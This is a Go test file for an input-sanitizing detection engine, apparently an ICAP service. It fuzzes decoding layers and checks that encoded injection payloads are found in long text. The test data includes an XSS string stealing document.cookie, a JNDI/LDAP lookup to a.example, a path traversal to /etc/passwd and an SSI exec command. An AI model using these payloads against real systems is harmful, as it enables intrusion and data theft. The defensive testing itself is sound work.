package sanitize

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	"icapd/signatures"
)

// TestEdits holds that what a layer leaves alone stands in the view above it as it stands beneath.
func TestEdits(t *testing.T) {
	pieces := []string{
		"plain words ", "%41%2", "&lt;&#x41;&", `\u0041\x4`, "+ADw-", "+AA", "\xc0\xae", "\U000e0041", "a\u200bb", "\x01", "\uff1c", "ﬅ", "½", "${lower:j}", "${a:-b}", "'a'+'b'", "+",
		strings.Repeat("a quiet stretch of text, ", 40), "\xff", "é", "e\u0301",
	}
	random := rand.New(rand.NewPCG(1, 2))
	edited := map[string]int{}
	for range 1000 {
		var text []byte
		for range 1 + random.IntN(12) {
			text = append(text, pieces[random.IntN(len(pieces))]...)
		}
		for _, y := range layers {
			var e edits
			out, changed := y.decode(nil, text, &e)
			if !changed || e.all {
				continue
			}
			edited[y.name]++
			if len(e.pages) == 0 || !slices.IsSorted(e.pages) {
				t.Fatalf("%s: %q became %q, edits %v", y.name, text, out, e.pages)
			}
			for start := 0; start < len(out); {
				end := start
				for end < len(out) && !e.within(end, end+1) {
					end = min(len(out), (end/editPage+1)*editPage)
				}
				if !bytes.Contains(text, out[start:end]) {
					t.Fatalf("%s: %q is new in %q, edits %v", y.name, out[start:end], out, e.pages)
				}
				start = (end/editPage + 1) * editPage
			}
		}
	}
	if len(edited) < len(layers)-1 {
		t.Fatalf("only %v", edited)
	}
}

// TestPieces holds that a payload under layers is found wherever it stands in a long text, and that what a layer left alone
// is not looked at again.
func TestPieces(t *testing.T) {
	e, err := New(Options{Rules: []string{"builtin"}, Builtin: signatures.Injection()})
	if err != nil {
		t.Fatal(err)
	}
	prose := strings.Repeat("The table is made of oak & seats six; it was built in 1904, and it stands in the hall.\n", 1200)
	each := func(format string) func(string) string {
		return func(s string) string {
			var b strings.Builder
			for _, c := range []byte(s) {
				fmt.Fprintf(&b, format, c)
			}
			return b.String()
		}
	}
	for _, payload := range []string{"<svg onload=alert(document.cookie)>", "${jndi:ldap://a.example/x}", "/../../../../etc/passwd", "<!--#exec cmd=\"ls\"-->"} {
		for name, wrap := range map[string]func(string) string{
			"url": each("%%%02x"), "html": each("&#%d;"), "escape": each(`\x%02x`), "url>url": each("%%25%02x"), "html>escape": each("&#92;x%02x"),
		} {
			for _, at := range []int{1, 9000, 16<<10 + 1000, len(prose)} {
				value := prose[:at] + wrap(payload) + prose[at:]
				if hits := e.Inspect(nil, []byte(value), FieldContext{}); len(hits) == 0 {
					t.Errorf("%s: %q at %d is not found", name, payload, at)
				}
			}
		}
	}
	plain := Work(e, []byte(prose))
	if sparse := Work(e, []byte("%41"+prose)); sparse > plain*5/4 {
		t.Errorf("%d bytes of work for a text, %d with one escape in it", plain, sparse)
	}
}

// FuzzEdits looks for a layer that changes what it does not own up to.
func FuzzEdits(f *testing.F) {
	f.Add([]byte("%41"), 300)
	f.Add([]byte("'a'+'b'"), 0)
	f.Add([]byte("+ADw-\uff1c&lt;\\n"), 255)
	f.Fuzz(func(t *testing.T, in []byte, at int) {
		text := slices.Concat(bytes.Repeat([]byte("z"), max(0, min(at, 4096))), in, bytes.Repeat([]byte("y"), 600))
		for _, y := range layers {
			var e edits
			out, changed := y.decode(nil, text, &e)
			if !changed || e.all {
				continue
			}
			for start := 0; start < len(out); start += editPage {
				if end := min(len(out), start+editPage); !e.within(start, end) && !bytes.Contains(text, out[start:end]) {
					t.Fatalf("%s: %q is new", y.name, out[start:end])
				}
			}
		}
	})
}
